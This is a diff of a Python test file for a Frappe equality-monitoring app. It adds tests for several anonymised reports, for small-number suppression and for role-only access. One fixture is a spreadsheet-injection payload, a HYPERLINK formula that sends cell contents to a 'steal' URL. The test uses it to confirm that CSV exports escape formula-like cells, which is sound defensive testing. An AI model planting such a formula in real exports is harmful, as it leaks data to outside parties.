@@ -2,13 +2,17 @@
 the reports count facts with small numbers hidden, and only the monitoring role sees figures, never a case
 (X-2, X-3, DER-25, SOM-17)."""
 
+import csv
+import io
 import json
 
 import frappe
+from frappe.desk.query_report import export_query
 from frappe.desk.query_report import run as run_report
+from frappe.utils import getdate
 
 from fairness_app.reports.facts import MET, MISSED, listed, unlisted
-from fairness_app.reports.periods import financial_year_of
+from fairness_app.reports.periods import financial_year_of, period_of
 from fairness_app.reports.suppression import SECONDARY_MARK
 from fairness_app.services import equality
 from fairness_app.services.monitoring import FACT, case_key, refresh_fact
@@ -17,8 +21,15 @@ from fairness_app.tests.site_client import SiteClient
 
 COMMITTEE = "Fairness Committee Table"
 TIMELINESS = "Fairness Timeliness"
+BEST_VALUE = "Fairness Best Value"
+REVIEW_GROUP = "Fairness Review Group"
+DEPARTMENTAL_RETURN = "Fairness Departmental Return"
+INCIDENTS = "Fairness Incidents Summary"
+REPORTS = (COMMITTEE, TIMELINESS, BEST_VALUE, REVIEW_GROUP, DEPARTMENTAL_RETURN, INCIDENTS)
 # Facts of a year no other test records cases in, so each figure is known.
 QUIET_YEAR = "2011-12"
+FORMULA_YEAR = "2009-10"
+FORMULA = '=HYPERLINK("https://example.org/steal?"&A1, "Acknowledge")'
 WHITE = "White: British"
 AFRICAN = "Black or Black British: African"
 
@@ -33,25 +44,52 @@ def published(fact) -> str:
 
 
 def seed_fact(ethnic_group, sex, disabled, outcome, grounds=(), clocks=(), directorate=None, received_on="2011-06-01"):
-	"""A fact as a case would leave it, for a year no case of these tests falls in."""
+	"""A staff complaint's fact as a closed case would leave it, for a year no case of these tests falls in."""
+	return insert_fact(
+		case_kind="Complaint",
+		received_on=received_on,
+		directorate=directorate,
+		complaint_type="Staff",
+		stage_category="closed",
+		ethnic_group=ethnic_group,
+		sex=sex,
+		disabled=disabled,
+		outcome=outcome,
+		grounds=listed(grounds),
+		clocks=[{"rule_key": key, "label": label, "result": result} for key, label, result in clocks],
+	)
+
+
+def seed_incident_fact(quarter, workplace, abuse_types, hate_related=0, repeat_incidents=0):
+	"""An incident's fact for the quiet year: quarter 1 is April to June 2011."""
+	return insert_fact(
+		case_kind="Incident",
+		received_on=f"2011-{3 * quarter + 1:02}-10" if quarter < 4 else "2012-02-10",
+		directorate="RES",
+		workplace=workplace,
+		abuse_types=listed(abuse_types),
+		hate_related=hate_related,
+		repeat_incidents=repeat_incidents,
+	)
+
+
+def insert_fact(**fields):
+	period = period_of(getdate(fields["received_on"]))
 	return frappe.get_doc(
 		{
 			"doctype": FACT,
 			"case_key": frappe.generate_hash(length=32),
-			"case_kind": "Complaint",
-			"received_on": received_on,
-			"financial_year": QUIET_YEAR,
-			"quarter": 1,
-			"half": 1,
-			"directorate": directorate,
-			"ethnic_group": ethnic_group,
-			"sex": sex,
-			"disabled": disabled,
-			"outcome": outcome,
-			"grounds": listed(grounds),
-			"clocks": [{"rule_key": key, "label": label, "result": result} for key, label, result in clocks],
+			"financial_year": period.financial_year,
+			"quarter": period.quarter,
+			"half": period.half,
+			**fields,
 		}
 	).insert(ignore_permissions=True)
+
+
+def column_named(result, label):
+	(fieldname,) = [column["fieldname"] for column in result["columns"] if column["label"] == label]
+	return fieldname
 
 
 def report_rows(report, **filters):
@@ -125,7 +163,7 @@ class TestMonitoringReports(EveryPersonaTestCase):
 	@classmethod
 	def setUpClass(cls):
 		super().setUpClass()
-		frappe.db.delete(FACT, {"financial_year": QUIET_YEAR})
+		frappe.db.delete(FACT, {"financial_year": ("in", (QUIET_YEAR, FORMULA_YEAR))})
 		if not frappe.db.exists("Fairness Directorate", "RES"):
 			frappe.get_doc({"doctype": "Fairness Directorate", "code": "RES", "directorate_name": "Resources"}).insert()
 		for _ in range(7):
@@ -137,7 +175,21 @@ class TestMonitoringReports(EveryPersonaTestCase):
 		seed_fact("Chinese", "Male", "Yes", "Withdrawn", ["Race"], [("ack", "Acknowledge", MISSED)], "RES")
 		# Received the year before and still open when this one began: outstanding from an earlier period.
 		seed_fact("Chinese", "Female", "No", None, ["Race"], received_on="2010-11-01")
+		for _ in range(6):
+			seed_incident_fact(1, "Library", ["Verbal abuse"])
+		seed_incident_fact(2, "Library", ["Verbal abuse", "Threats"], hate_related=1, repeat_incidents=2)
+		# A deadline named like a spreadsheet formula, in a year of its own.
+		insert_fact(
+			case_kind="Complaint",
+			received_on="2009-06-01",
+			closed_on="2009-07-01",
+			clocks=[{"rule_key": "formula", "label": FORMULA, "result": MET}],
+		)
 		frappe.db.commit()
+
+	def assertTrueOrHidden(self, shown, count):
+		"""A figure is true, or hidden: as "<5" when it is small, and as [c] when it would give a small one away."""
+		self.assertIn(shown, ("<5",) if 0 < count < 5 else (count, SECONDARY_MARK))
 
 	def test_the_committee_table_counts_complainants_by_racial_group_and_hides_small_numbers(self):
 		# req: DER-25, X-2
@@ -174,6 +226,83 @@ class TestMonitoringReports(EveryPersonaTestCase):
 		self.assertEqual(rows["Acknowledge"]["missed"], "<5")
 		self.assertIsNone(rows["Acknowledge"]["met_share"])  # it would give the hidden count away
 
+	def test_best_value_counts_discrimination_recorded_and_followed_up_by_ground(self):
+		# req: SOM-17, X-2
+		frappe.set_user(self.users.monitoring_officer)
+		result = run_report(BEST_VALUE, filters={"financial_year": QUIET_YEAR, "population": 560000})
+		rows = {row["ground"]: row for row in result["result"]}
+		self.assertEqual(list(rows), ["Race", "Gender", "Disability", "Sexual orientation", "All four grounds"])
+		# Race: 7 partly upheld and 1 withdrawn; sex: 6 upheld; age is not one of the four grounds.
+		true_counts = {"Race": (8, 7, 1), "Gender": (6, 6, 0), "Disability": (0, 0, 0), "All four grounds": (14, 13, 1)}
+		for ground, counts in true_counts.items():
+			for field, count in zip(("recorded", "followed_up", "not_followed_up"), counts, strict=True):
+				with self.subTest(ground=ground, field=field):
+					self.assertTrueOrHidden(rows[ground][field], count)
+		self.assertEqual(rows["Race"]["not_followed_up"], "<5")
+		self.assertEqual(rows["Gender"]["recorded"], 6)
+		self.assertEqual(rows["Gender"]["per_100000"], 1.07)
+		self.assertIsNone(rows["Race"]["followed_up_share"])  # it would give the hidden count away
+
+	def test_the_review_group_sees_numbers_and_types_for_the_half_year_only(self):
+		# req: SOM-17, X-2
+		frappe.set_user(self.users.monitoring_officer)
+		counts = self.review_group_counts("April to September")
+		self.assertEqual(counts["Outcome", "Withdrawn"], "<5")
+		self.assertEqual(counts["Outcome", "Not completed"], 0)
+		true_counts = {
+			("Type of complaint", "Staff"): 19,
+			("Directorate", "RES"): 19,
+			("Ground", "Race"): 8,
+			("Ground", "Age"): 5,
+			("Ground", "All grounds counted"): 19,
+			("Stage", "Closed"): 19,
+		}
+		for key, count in true_counts.items():
+			with self.subTest(key=key):
+				self.assertTrueOrHidden(counts[key], count)
+		later = self.review_group_counts("October to March")  # the earlier year's complaint is not counted again
+		self.assertEqual(later["Type of complaint", "All complaints"], 0)
+
+	def review_group_counts(self, half):
+		result = run_report(REVIEW_GROUP, filters={"financial_year": QUIET_YEAR, "half": half})
+		return {(row["heading"], row["label"]): row["complaints"] for row in result["result"]}
+
+	def test_each_department_returns_its_line_for_the_quarter(self):
+		# req: SOM-20, X-2
+		frappe.set_user(self.users.monitoring_officer)
+		result = run_report(DEPARTMENTAL_RETURN, filters={"financial_year": QUIET_YEAR, "quarter": "April to June"})
+		rows = {row["line"]: row for row in result["result"]}
+		self.assertEqual(list(rows), ["RES", "All directorates"])
+		self.assertTrueOrHidden(rows["RES"]["cases"], 19)
+		self.assertEqual(rows["RES"][column_named(result, "Stage: Open")], 0)
+		withdrawn = column_named(result, "Outcome: Withdrawn")
+		self.assertEqual((rows["RES"][withdrawn], rows["All directorates"][withdrawn]), ("<5", "<5"))
+
+	def test_senior_managers_see_incidents_by_quarter_and_type_never_who(self):
+		# req: CUM-6, KEN-11, CUM-11, X-2
+		frappe.set_user(self.users.monitoring_officer)
+		result = run_report(INCIDENTS, filters={"financial_year": QUIET_YEAR})
+		rows = {row["line"]: row for row in result["result"]}
+		self.assertEqual(list(rows), [f"Q{quarter} {QUIET_YEAR}" for quarter in (1, 2, 3, 4)] + ["All quarters"])
+		self.assertTrueOrHidden(rows[f"Q1 {QUIET_YEAR}"]["cases"], 6)
+		self.assertEqual(rows[f"Q3 {QUIET_YEAR}"]["cases"], 0)
+		self.assertEqual(rows[f"Q2 {QUIET_YEAR}"][column_named(result, "Hate-related: Yes")], "<5")
+		self.assertEqual(rows[f"Q2 {QUIET_YEAR}"][column_named(result, "Incidents by the same person: 2 or 3 by the same person")], "<5")
+
+	def test_exports_keep_a_label_that_looks_like_a_formula_as_text(self):
+		# req: X-2
+		frappe.set_user(self.users.monitoring_officer)
+		frappe.local.form_dict = frappe._dict(
+			report_name=TIMELINESS,
+			file_format_type="CSV",
+			filters=json.dumps({"financial_year": FORMULA_YEAR}),
+			visible_idx="[]",
+		)
+		export_query()
+		cells = [cell for line in csv.reader(io.StringIO(frappe.response["filecontent"].decode())) for cell in line]
+		self.assertIn("'" + FORMULA, cells)
+		self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "-", "@"))])
+
 	def test_a_financial_year_written_wrongly_gets_a_plain_message(self):
 		frappe.set_user(self.users.monitoring_officer)
 		with self.assertRaisesRegex(frappe.ValidationError, "like 2026-27"):
@@ -182,7 +311,7 @@ class TestMonitoringReports(EveryPersonaTestCase):
 	def test_only_the_monitoring_role_runs_the_reports(self):
 		# req: X-2
 		for persona in ("case_officer", "line_manager", "investigator", "administrator", "complainant"):
-			for report in (COMMITTEE, TIMELINESS):
+			for report in REPORTS:
 				with self.subTest(persona=persona, report=report):
 					frappe.set_user(self.users[persona])
 					self.assertRaises(frappe.PermissionError, run_report, report, filters={"financial_year": QUIET_YEAR})
@@ -190,7 +319,7 @@ class TestMonitoringReports(EveryPersonaTestCase):
 	def test_no_figure_leads_to_a_case(self):
 		# req: X-2
 		frappe.set_user(self.users.monitoring_officer)
-		for report in (COMMITTEE, TIMELINESS):
+		for report in REPORTS:
 			result = run_report(report, filters={"financial_year": QUIET_YEAR})
 			self.assertFalse([column for column in result["columns"] if column["fieldtype"] in ("Link", "Dynamic Link")])
 			self.assertNotIn("name", {key for row in result["result"] for key in row})
